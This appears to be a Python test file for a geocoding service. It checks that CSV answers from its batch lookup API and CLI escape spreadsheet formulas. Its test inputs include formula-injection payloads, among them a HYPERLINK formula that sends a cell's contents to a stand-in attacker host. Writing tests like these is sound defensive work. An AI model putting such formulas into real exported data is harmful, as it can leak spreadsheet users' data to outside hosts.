"""CSV answers escape spreadsheet formulas (OWASP): API batch lookups and ``geogrid lookup --file``."""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import text
from typer.testing import CliRunner

from geogrid.cli import application
from geogrid.csvsafe import escape_cell
from tests.fixtures.planning_city import A, B

IDS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+86 138", "-2+3", "@SUM(1)", "\tx", "\rx", "plain"]
INPUT = (
    "id,lon,lat\n"
    + "".join(f'"{i.replace(chr(34), chr(34) * 2)}",116.305,39.905\n' for i in IDS[:-1])
    + "plain,116.315,39.905\n"
)


@pytest.fixture
def named(planning_city):
    """Grid names a spreadsheet would run."""
    with planning_city.begin() as conn:
        conn.execute(text("UPDATE grids SET name = '=1+1' WHERE code = :c"), {"c": A})
        conn.execute(text("UPDATE grids SET name = '@cmd' WHERE code = :c"), {"c": B})
    return planning_city


def _check(rows: list[dict]) -> None:
    assert [r["id"] for r in rows] == ["'" + i for i in IDS[:-1]] + ["plain"]
    assert {r["grid_name"] for r in rows} == {"'=1+1", "'@cmd"}
    assert all(r["grid_code"] in (A, B) for r in rows)  # codes (digits) are left alone


def test_api_csv_answer_escapes_formulas(named, client_as):
    answer = client_as("admin").post("/lookup/batch", content=INPUT.encode(), headers={"content-type": "text/csv"})
    assert answer.status_code == 200 and answer.headers["content-type"].startswith("text/csv")
    _check(list(csv.DictReader(io.StringIO(answer.text))))


def test_cli_csv_answer_escapes_formulas(named, tmp_path):
    source, out = tmp_path / "in.csv", tmp_path / "out.csv"
    source.write_text(INPUT, encoding="utf-8", newline="")
    got = CliRunner().invoke(application(), ["lookup", "--file", str(source), "--out", str(out)])
    assert got.exit_code == 0, got.output
    with out.open(newline="", encoding="utf-8") as fh:
        _check(list(csv.DictReader(fh)))


def test_numbers_and_safe_text_are_left_alone():
    assert escape_cell(-3.5) == -3.5 and escape_cell(7) == 7 and escape_cell(None) is None
    assert escape_cell("巴蜀花园3栋") == "巴蜀花园3栋" and escape_cell("a=b") == "a=b"
    assert escape_cell("-") == "'-"


def test_api_address_csv_answer_escapes_formulas(empty_db, client_as):
    """A CSV with an ``address`` column takes the address path (``_to_csv``), not the points' columnar one: its
    ids and grid names are escaped as well, and an address a formula never reaches a cell unescaped."""
    from tests.fixtures.lookup_city import load_city

    with empty_db.begin() as conn:
        load_city(conn)
        from geogrid.assign import assign_all

        assign_all(conn)
        conn.execute(text("UPDATE grids SET name = '=1+1' WHERE valid_to IS NULL"))
    body = "id,address\n" + "".join(f'"{i.replace(chr(34), chr(34) * 2)}",巴蜀花园3栋\n' for i in IDS[:-1])
    body += 'plain,"=HYPERLINK(""http://evil.example"")"\n'
    answer = client_as("admin").post("/lookup/batch", content=body.encode(), headers={"content-type": "text/csv"})
    assert answer.status_code == 200 and answer.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(answer.text)))
    assert [r["id"] for r in rows] == ["'" + i for i in IDS[:-1]] + ["plain"]
    found = rows[:-1]
    assert all(r["grid_name"] == "'=1+1" and r["match_address"] == "巴蜀花园3栋" for r in found), found[0]
    assert rows[-1]["grid_code"] == "" and rows[-1]["error"]  # no match: said so
    cells = [cell for r in rows for cell in r.values()]
    assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in cells if cell), cells
